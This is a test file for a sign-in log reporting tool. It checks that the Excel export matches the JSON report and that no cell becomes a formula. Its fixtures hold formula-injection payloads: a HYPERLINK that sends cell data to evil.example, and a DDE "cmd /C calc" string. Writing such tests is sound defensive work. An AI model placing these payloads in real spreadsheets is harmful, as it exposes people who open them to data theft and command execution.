// The Excel workbook, read back with exceljs's reader and, for formulas, from the raw sheet XML (jszip): every
// sheet's numbers equal the JSON report of the same run, and no cell anywhere is a formula, not even for the
// hostile-values fixture, whose log text reaches the workbook as text.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, describe, expect, it } from 'vitest';
import { COMPARED_DIMENSIONS, dimensionOf } from '../src/analyze/dimensions.js';
import { parseRules } from '../src/config/rules.js';
import { toJsonReport } from '../src/render/json.js';
import { cellText, renderXlsx } from '../src/render/xlsx.js';
import type { Finding, ReportView } from '../src/view/index.js';
import { buildView, reportFigures } from '../src/view/index.js';
import { repoRoot } from './helpers/exec.js';
import { runMain, testIo } from './helpers/io.js';
import { main } from '../src/main.js';
import { analyzeSignIns, coverageFor, makeSignIn } from './helpers/signins.js';

const SAMPLE = 'fixtures/sample/InteractiveSignIns_sample.csv';
const HOSTILE_FILE = 'fixtures/formats/hostile-values.csv';
const OVERLAP = ['fixtures/overlap/InteractiveSignIns_2026-11-09_2026-11-12.csv', 'fixtures/overlap/InteractiveSignIns_2026-11-11_2026-11-15.csv'];
const NOW = ['--now', '2026-11-16T08:00:00Z'];
const workdir = mkdtempSync(path.join(tmpdir(), 'render-xlsx-'));
afterAll(() => rmSync(workdir, { recursive: true, force: true }));

type Row = Record<string, unknown>;
// biome-ignore lint/suspicious/noExplicitAny: the JSON report is read field by field
type Json = Record<string, any>;

/** Every sheet as its header's names → cell values, row by row. */
async function readWorkbook(bytes: Uint8Array): Promise<Map<string, Row[]>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const sheets = new Map<string, Row[]>();
  workbook.eachSheet((sheet) => {
    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const rows: Row[] = [];
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      const values = row.values as unknown[];
      rows.push(Object.fromEntries(headers.map((header, i) => [header, values[i + 1] ?? null])));
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
    sheets.set(sheet.name, rows);
  });
  return sheets;
}

/** The raw XML of every worksheet holds no formula element. */
async function expectNoFormulaXml(bytes: Uint8Array): Promise<void> {
  const zip = await JSZip.loadAsync(bytes);
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(5);
  for (const name of sheets) {
    const xml = await zip.file(name)!.async('string');
    expect(xml, name).not.toMatch(/<f[\s>/]/);
  }
  expect(Object.keys(zip.files).filter((name) => name.includes('calcChain'))).toEqual([]);
}

const iso = (value: unknown): string | null => (value instanceof Date ? value.toISOString().replace('.000Z', 'Z') : null);
const pick = (rows: readonly Row[], ...fields: string[]) => rows.map((row) => fields.map((field) => row[field]));
/** A row's failures over its sign-ins, unrounded: what the sheets hold. */
const exactRate = (row: Json): number => (row['signIns'] === 0 ? 0 : row['failures'] / row['signIns']);

/** Compares every number of every sheet with the JSON report of the same view. */
function expectSameNumbers(sheets: Map<string, Row[]>, json: Json): void {
  const summary = new Map((sheets.get('Summary') ?? []).map((row) => [row['Measure'], row['Value']]));
  expect([summary.get('Sign-ins'), summary.get('Failures'), summary.get('Interrupted'), summary.get('Successful')]).toEqual([
    json.totals.signIns,
    json.totals.failure,
    json.totals.interrupted,
    json.totals.success,
  ]);
  expect([summary.get('Users'), summary.get('Applications')]).toEqual([json.totals.users, json.totals.apps]);
  expect([
    summary.get('Rows read'),
    summary.get('Rejected rows'),
    summary.get('Duplicates'),
    summary.get('Outside the time filter'),
    summary.get('Filtered out'),
  ]).toEqual([json.accounting.rowsRead, json.accounting.rejected, json.accounting.duplicates, json.accounting.outsideWindow, json.accounting.filteredOut]);
  expect([summary.get('Legacy protocol sign-ins'), summary.get('Legacy protocol failures')]).toEqual([
    json.legacyProtocols.signIns,
    json.legacyProtocols.failures,
  ]);
  expect([summary.get('Inputs'), summary.get('Warnings')]).toEqual([json.inputs.length, json.warnings.length]);
  expect(iso(summary.get('First sign-in (UTC)'))).toBe(json.period.firstSignIn);
  expect(iso(summary.get('Last sign-in (UTC)'))).toBe(json.period.lastSignIn);
  expect(summary.get('Failure rate')).toBeCloseTo(json.totals.signIns === 0 ? 0 : json.totals.failure / json.totals.signIns, 10);

  const codes = sheets.get('Codes')!;
  expect(pick(codes, 'Code', 'Count', 'Failures', 'Interrupted', 'Users', 'Apps', 'Catalogued')).toEqual(
    json.byCode.map((row: Json) => [row.code, row.count, row.failures, row.interrupted, row.users, row.apps, row.catalogued]),
  );
  expect(pick(sheets.get('Categories')!, 'Category', 'Count', 'Failures', 'Interrupted', 'Users', 'Codes')).toEqual(
    json.byCategory.map((row: Json) => [row.category, row.count, row.failures, row.interrupted, row.users, row.codes]),
  );
  const entities: [string, string, string, string][] = [
    ['Users', 'byUser', 'User', 'user'],
    ['Applications', 'byApp', 'Application', 'app'],
    ['Client apps', 'byClientApp', 'Client app', 'clientApp'],
    ['Countries', 'byCountry', 'Country', 'country'],
    ['IP addresses', 'byIp', 'IP address', 'ip'],
    ['Sign-in types', 'byType', 'Sign-in type', 'type'],
    ['Days (UTC)', 'byDay', 'Day', 'day'],
    ['Tenants', 'byTenant', 'Tenant', 'tenant'],
  ];
  for (const [sheet, section, heading, field] of entities) {
    const rows = sheets.get(sheet)!;
    const expected = json[section] as Json[];
    expect(
      rows.map((row) => [row[heading], row['Sign-ins'], row['Failures'], row['Interrupted'], row['Failure rate'], row['Users'] ?? null]),
      sheet,
    ).toEqual(expected.map((row) => [cellText(String(row[field])), row.signIns, row.failures, row.interrupted, exactRate(row), row.users ?? null]));
    // The sheet holds the exact rate, for Excel to round once; the JSON gives it to four decimals.
    for (const row of expected) expect(row.failureRate, sheet).toBe(Math.round(exactRate(row) * 10_000) / 10_000);
  }
  expect(sheets.get('Client apps')!.map((row) => row['Legacy'])).toEqual(json.byClientApp.map((row: Json) => row.legacy));
  expect(sheets.get('Tenants')!.map((row) => row['Name'])).toEqual(json.byTenant.map((row: Json) => cellText(row.name)));

  const inputs = sheets.get('Coverage')!.filter((row) => row['What'] === 'input');
  expect(inputs.map((row) => [row['Input'], row['Format'], row['Rows'], row['Duplicates'], iso(row['First (UTC)']), iso(row['Last (UTC)'])])).toEqual(
    json.coverage.inputs.map((input: Json) => [cellText(input.path), input.format, input.rows, input.duplicates, input.firstSignIn, input.lastSignIn]),
  );
  const overlaps = sheets.get('Coverage')!.filter((row) => row['What'] === 'overlap');
  expect(overlaps.map((row) => [row['Duplicates'], iso(row['First (UTC)']), iso(row['Last (UTC)'])])).toEqual(
    json.coverage.overlaps.map((overlap: Json) => [overlap.duplicates, overlap.from, overlap.until]),
  );
  const days = sheets.get('Coverage')!.filter((row) => row['What'] === 'day without sign-ins');
  expect(days.map((row) => iso(row['First (UTC)'])?.slice(0, 10))).toEqual(json.coverage.missingDays);

  if (json.comparison === undefined) expect(sheets.has('Comparison')).toBe(false);
  else {
    const comparison = sheets.get('Comparison')!;
    const totals = comparison.filter((row) => row['Section'] === 'Totals');
    const percent = (value: number | null) => (value === null ? null : value / 100);
    expect(totals.map((row) => [row['Now'], row['Before'], row['Change'], row['Change %']])).toEqual([
      ...['signIns', 'failures', 'interrupted'].map((key) => {
        const delta = json.comparison.totals[key];
        return [delta.now, delta.before, delta.change, percent(delta.changePercent)];
      }),
      [
        percent(json.comparison.totals.failureRate.now),
        percent(json.comparison.totals.failureRate.before),
        percent(json.comparison.totals.failureRate.change),
        null,
      ],
    ]);
    const deltas = comparison.filter((row) => row['Section'] !== 'Totals');
    const expected = COMPARED_DIMENSIONS.map((id) => dimensionOf(id).json.section).flatMap((section) =>
      (json.comparison[section] as Json[]).map((row) => [row.now, row.before, row.change, percent(row.changePercent), row.status]),
    );
    expect(deltas.map((row) => [row['Now'], row['Before'], row['Change'], row['Change %'], row['Status']])).toEqual(expected);
  }
  if (json.thresholds === undefined) expect(sheets.has('Thresholds')).toBe(false);
  else {
    expect(pick(sheets.get('Thresholds')!, 'Rule', 'Crossed', 'Measured', 'Limit')).toEqual(
      json.thresholds.rules.map((rule: Json) => [rule.rule, rule.crossed, rule.actual, rule.limit]),
    );
  }
}

async function cliWorkbook(args: readonly string[]): Promise<{ sheets: Map<string, Row[]>; bytes: Uint8Array; json: Json }> {
  const file = path.join(workdir, `r-${Math.random().toString(36).slice(2)}.xlsx`);
  const written = await runMain(['report', ...args, ...NOW, '--format', 'xlsx', '--output', file, '--quiet']);
  expect(written).toMatchObject({ status: 0, stdout: '', stderr: '' });
  const json = JSON.parse((await runMain(['report', ...args, ...NOW, '--format', 'json', '--quiet'])).stdout) as Json;
  const bytes = new Uint8Array(readFileSync(file));
  return { sheets: await readWorkbook(bytes), bytes, json };
}

describe('report --format xlsx', () => {
  it('the sample and the hostile values: every sheet, every number equal to the JSON report; no formula anywhere', async () => {
    const { sheets, bytes, json } = await cliWorkbook([SAMPLE, HOSTILE_FILE]);
    expect([...sheets.keys()]).toEqual([
      'Summary',
      'Act now',
      'Coverage',
      'Categories',
      'Codes',
      'Users',
      'Applications',
      'Client apps',
      'Countries',
      'IP addresses',
      'Sign-in types',
      'Days (UTC)',
      'Hours of the week (UTC)',
      'Tenants',
    ]);
    expectSameNumbers(sheets, json);
    await expectNoFormulaXml(bytes);
    // The hostile values reach the workbook as the text they are (made one line, as in every format).
    const apps = sheets.get('Applications')!.map((row) => row['Application']);
    const formulaLike = json.byApp.map((row: Json) => row.app as string).filter((app: string) => /^\s*[=+\-@]/.test(app));
    expect(formulaLike).toEqual(expect.arrayContaining(['=HYPERLINK("https://evil.example/?q="&A1,"Open report")', '-2+3', '\t=1+1']));
    for (const app of formulaLike) expect(apps).toContain(cellText(app));
    expect(apps).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Open report")');
    // The findings, as the JSON lists them.
    expect(json.findings.length).toBeGreaterThan(0);
    expect(sheets.get('Act now')!.map((row) => [row['Severity'], row['Kind'], row['Title'], row['Attempts'], iso(row['First (UTC)'])])).toEqual(
      json.findings.map((finding: Json) => [finding.severity, finding.kind, finding.title, (finding.counts as Json).attempts, finding.first]),
    );
  });

  it("shows a value holding Excel's _xHHHH_ escape as it is, not as the character it names", async () => {
    const named = path.join(workdir, 'InteractiveSignIns_escapes.csv');
    const app = 'Pulse_x0041__x001B_Survey';
    writeFileSync(named, readFileSync(path.join(repoRoot, SAMPLE), 'utf8').replaceAll('Contoso Pulse Survey', app));
    const { sheets, json } = await cliWorkbook([named]);
    expect(json.byApp.map((row: Json) => row.app)).toContain(app);
    expect(sheets.get('Applications')!.map((row) => row['Application'])).toContain(app);
  });

  it('overlapping downloads: the coverage sheet lists them as the JSON does', async () => {
    const { sheets, json } = await cliWorkbook(OVERLAP);
    expect(json.coverage.overlaps).toHaveLength(1);
    expectSameNumbers(sheets, json);
  });

  it('frozen header, autofilter over the table, data bars on counts, widths from the content', async () => {
    const { bytes } = await cliWorkbook([SAMPLE]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const users = workbook.getWorksheet('Users')!;
    expect(users.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(users.autoFilter).toBe(`A1:F${users.rowCount}`);
    expect(users.getColumn(1).width).toBeGreaterThan(users.getColumn(3).width!);
    expect(users.getCell('E2').numFmt).toBe('0.0%');
    const zip = await JSZip.loadAsync(bytes);
    const xml = await zip.file('xl/worksheets/sheet6.xml')!.async('string');
    expect(xml).toMatch(/<conditionalFormatting sqref="B2:B\d+"><cfRule type="dataBar"/);
  });

  it('writes to a pipe or file, but refuses a terminal (exit 2)', async () => {
    const io = testIo({ stdoutIsTty: true, env: { NO_COLOR: '1' } });
    const status = await main(['report', SAMPLE, '--format', 'xlsx'], io);
    expect(status).toBe(2);
    expect(io.out).toEqual([]);
    expect(io.err.join('')).toMatch(/--format xlsx writes a binary file, not text for a terminal — add --output report\.xlsx/);
    const piped = await runMain(['report', SAMPLE, ...NOW, '--format', 'xlsx', '--quiet']);
    expect(piped.status).toBe(0);
    const bytes = Buffer.from(piped.stdout, 'latin1');
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
    expect((await readWorkbook(bytes)).get('Summary')![0]).toEqual({ Measure: 'Sign-ins', Value: 315 });
  });
});

describe('the workbook of a view with a comparison, thresholds and findings', () => {
  const HOSTILE = "=cmd|' /C calc'!A0";
  const signIns = (spec: readonly [string, number, number][]) =>
    spec.flatMap(([user, code, count]) => Array.from({ length: count }, () => makeSignIn({ userPrincipalName: user, errorCode: code })));
  const now = signIns([
    ['alice@contoso.example', 50126, 4],
    [HOSTILE, 50053, 2],
  ]);
  const before = signIns([
    ['alice@contoso.example', 50126, 2],
    ['bob@contoso.example', 0, 1],
  ]);
  const finding: Finding = {
    kind: 'password-spray',
    severity: 'high',
    title: '=HYPERLINK("http://evil.example","spray")',
    entity: { ip: '203.0.113.9' },
    first: new Date('2026-11-09T08:00:00Z'),
    last: new Date('2026-11-09T09:00:00Z'),
    counts: { attempts: 40, users: 20, ips: 1, apps: 2, successes: 1 },
    evidence: [
      { time: new Date('2026-11-09T08:00:00Z'), user: '+alice@contoso.example', ip: '203.0.113.9', app: '=1+1', code: 50126, requestId: '-req' },
      { time: new Date('2026-11-09T08:01:00Z'), user: '@bob', ip: '203.0.113.9', app: 'Office', code: 50126, requestId: 'req-2' },
    ],
    why: 'many users, one address',
    action: 'block the address',
  };
  const baseline = {
    file: 'last.json',
    figures: reportFigures(analyzeSignIns(before).report),
    generatedAt: '2026-11-09T06:00:00Z',
    period: { since: null, until: null, firstSignIn: null, lastSignIn: null },
    label: null,
    incomplete: [],
    missing: [],
  };
  const view: ReportView = {
    ...buildView({
      report: analyzeSignIns(now).report,
      coverage: coverageFor(now),
      period: null,
      previous: null,
      baseline,
      rules: parseRules(['failures>3', 'new-codes', 'user:failures>1']),
    }),
    findings: [finding],
  };

  it('has every section, every number equal to the JSON, the findings as text', async () => {
    const bytes = await renderXlsx(view, { color: false, by: 'code' });
    const sheets = await readWorkbook(bytes);
    expect([...sheets.keys()].slice(-2)).toEqual(['Comparison', 'Thresholds']);
    expectSameNumbers(sheets, toJsonReport(view) as unknown as Json);
    expect(sheets.get('Act now')).toEqual([
      {
        Severity: 'high',
        Kind: 'password-spray',
        Title: finding.title,
        'IP address': '203.0.113.9',
        User: '',
        Application: '',
        'First (UTC)': finding.first,
        'Last (UTC)': finding.last,
        Attempts: 40,
        Users: 20,
        'IP addresses': 1,
        Applications: 2,
        Successes: 1,
        Why: 'many users, one address',
        'What to do': 'block the address',
        Evidence:
          '2026-11-09 08:00:00 UTC +alice@contoso.example from 203.0.113.9 to =1+1: 50126 (request -req); 2026-11-09 08:01:00 UTC @bob from 203.0.113.9 to Office: 50126 (request req-2)',
      },
    ]);
    await expectNoFormulaXml(bytes);
  });
});
